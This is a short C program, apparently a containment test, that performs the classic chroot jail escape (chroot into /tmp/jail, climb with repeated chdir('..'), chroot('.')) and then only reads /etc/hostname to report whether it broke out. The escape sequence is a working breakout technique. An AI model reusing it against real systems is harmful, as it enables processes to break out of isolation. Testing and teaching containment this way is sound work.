/*
 * chroot-escape: the classic way out of a chroot(2) jail, made harmless.
 *
 * chroot(2) changes only the directory that "/" resolves to for this
 * process; it does not move the working directory. A process with
 * CAP_SYS_CHROOT can chroot into a subdirectory while its working directory
 * stays outside the new root, then climb with "..": the kernel stops ".."
 * only at the process's root or at the root of its mount namespace, and
 * the working directory is above the one and below the other. Under
 * pivot_root(2) the old root is unmounted, so the climb ends at the
 * container's own "/".
 *
 * It only reads /etc/hostname at the top it reaches and prints it.
 * Exit 0: escaped. Exit 1: still inside. Exit 2: could not try.
 *
 * Read: chroot(2), pivot_root(2), path_resolution(7).
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int
main(void)
{
    struct stat before, after;
    char name[256] = "";
    FILE *f;
    int i;

    if (stat("/", &before) == -1) {
        perror("chroot-escape: stat /");
        return 2;
    }
    printf("1. mkdir /tmp/jail and chroot(\"/tmp/jail\"): the cwd stays "
           "outside the new root\n");
    if (mkdir("/tmp/jail", 0700) == -1 && errno != EEXIST) {
        perror("chroot-escape: mkdir /tmp/jail");
        return 2;
    }
    if (chroot("/tmp/jail") == -1) {
        perror("chroot-escape: chroot (needs CAP_SYS_CHROOT)");
        return 2;
    }
    printf("2. chdir(\"..\") 64 times, then chroot(\".\")\n");
    for (i = 0; i < 64; i++)
        if (chdir("..") == -1)
            break;
    if (chroot(".") == -1) {
        perror("chroot-escape: chroot .");
        return 2;
    }
    if (stat("/", &after) == -1) {
        perror("chroot-escape: stat /");
        return 2;
    }
    f = fopen("/etc/hostname", "r");
    if (f != NULL) {
        if (fgets(name, sizeof(name), f) != NULL)
            name[strcspn(name, "\n")] = '\0';
        fclose(f);
    }
    if (before.st_dev != after.st_dev || before.st_ino != after.st_ino) {
        printf("ESCAPED: reached the host's root; its /etc/hostname "
               "says \"%s\"\n",
               name);
        return 0;
    }
    printf("BLOCKED: \"..\" stopped at the container's root "
           "(/etc/hostname says \"%s\")\n",
           name);
    return 1;
}
